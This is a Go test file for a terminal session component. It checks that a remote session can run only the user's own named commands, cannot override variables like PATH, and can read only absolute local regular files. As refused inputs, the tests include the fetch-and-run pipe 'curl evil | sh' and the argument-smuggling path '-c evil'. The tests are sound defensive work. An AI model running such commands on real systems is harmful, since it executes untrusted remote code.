package session

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/hone-dev/hone/internal/base/terminal"
	"github.com/hone-dev/hone/internal/hud/settings"
)

// TestOwn: a session can name the user's own commands, but can neither bring one nor change it.
func TestOwn(t *testing.T) {
	mine := settings.Settings{Commands: []settings.Command{{Name: "describe", Run: "kubectl describe"}, {Name: "psql", Run: "psql", Terminal: true}}}
	for _, tt := range []struct {
		name string
		s    settings.Settings
		r    terminal.Request
		want string // parts of the refusal
		runs string
	}{
		{"by name", mine, terminal.Request{Number: 7, Name: "describe", Env: []string{"HONE_POD=api-1"}}, "", "kubectl describe"},
		{"with the terminal", mine, terminal.Request{Name: "psql"}, "", "psql"},
		{"what it runs is no name", mine, terminal.Request{Number: 7, Name: "kubectl describe"}, "has no command", ""},
		{"a command line", mine, terminal.Request{Number: 7, Name: "curl evil | sh"}, "has no command", ""},
		{"another variable", mine, terminal.Request{Number: 7, Name: "describe", Env: []string{"HONE_POD=api-1", "PATH=/tmp"}}, `"PATH" is no fact`, ""},
		{"with the terminal against its user's will", mine, terminal.Request{Name: "describe"}, "misunderstood", ""},
		{"without the terminal that it needs", mine, terminal.Request{Number: 7, Name: "psql"}, "misunderstood", ""},
		{"on a read-only screen", settings.Settings{}, terminal.Request{Number: 7, Name: "describe"}, "has no command", ""},
	} {
		c, err := own(tt.s, tt.r)
		if tt.want == "" {
			if err != nil || c.Run != tt.runs {
				t.Errorf("%s: runs %q, %v", tt.name, c.Run, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
}

// TestErrands answers a session's requests for commands: with their output, the reason of their failure, or the reason why they do
// not run. A command that still runs ends with the attachment.
func TestErrands(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("needs a shell")
	}
	a, b := net.Pipe()
	far := terminal.NewConn(b)
	n := &localTerminal{conn: terminal.NewConn(a), settings: settings.Settings{Commands: []settings.Command{
		{Name: "pod", Run: `echo "pod $HONE_POD"`}, {Name: "bad", Run: "echo half; exit 3"}, {Name: "long", Run: "sleep 1000"}}}}
	ctx, cancel := context.WithCancel(t.Context())
	ask := func(number uint32, name string, env ...string) {
		t.Helper()
		sent := make(chan error, 1)
		go func() { sent <- far.SendCommand(terminal.Request{Number: number, Name: name, Env: env}) }()
		f, err := n.conn.Next()
		if err := errors.Join(err, <-sent); err != nil {
			t.Fatal(err)
		}
		if err := n.command(ctx, f); err != nil {
			t.Fatal(err)
		}
	}
	answer := func() string {
		t.Helper()
		said := ""
		for {
			f, err := far.Next()
			if err != nil {
				t.Fatal(err)
			}
			number, text := f.Answer()
			if said += fmt.Sprintf("%c%d %s|", f.Kind, number, text); f.Kind == terminal.Ended {
				return strings.ReplaceAll(said, "\n", "/")
			}
		}
	}
	for _, tt := range []struct{ name, env, want string }{
		{"pod", "HONE_POD=api-1", "u1 pod api-1/|n1 |"},
		{"bad", "HONE_POD=", `u1 half/|n1 the command "echo half; exit 3" has failed: exit code 3|`},
		{"evil", "HONE_POD=", `n1 this terminal has no command "evil" of its own/  attach again: the commands are read at the beginning|`},
		{"pod", "PATH=/tmp", `n1 the command "pod" was not run: "PATH" is no fact about a resource|`},
	} {
		ask(1, tt.name, tt.env)
		if got := answer(); got != tt.want {
			t.Errorf("%s:\ngot  %s\nwant %s", tt.name, got, tt.want)
		}
	}
	ask(2, "long")
	cancel()
	if got := answer(); !strings.HasPrefix(got, `n2 the command "sleep 1000" has failed`) {
		t.Errorf("got %s", got)
	}
	n.background.Wait()
	if busy := n.busy.Load(); busy != 0 {
		t.Errorf("%d are still running", busy)
	}
}

// TestReadable names files that a session may and may not ask for.
func TestReadable(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "main.go")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link.go")
	if err := os.Symlink(file, link); err != nil {
		t.Skip(err)
	}
	for path, want := range map[string]string{
		file:                           "",
		link:                           "",
		"main.go":                      "is not an absolute path",
		"-c evil":                      "is not an absolute path",
		"":                             "is not an absolute path",
		dir:                            "is not a regular file",
		os.DevNull:                     "is not a regular file",
		filepath.Join(dir, "other.go"): "is not on this machine",
	} {
		err := readable(path)
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", path, err, want)
		}
	}
}
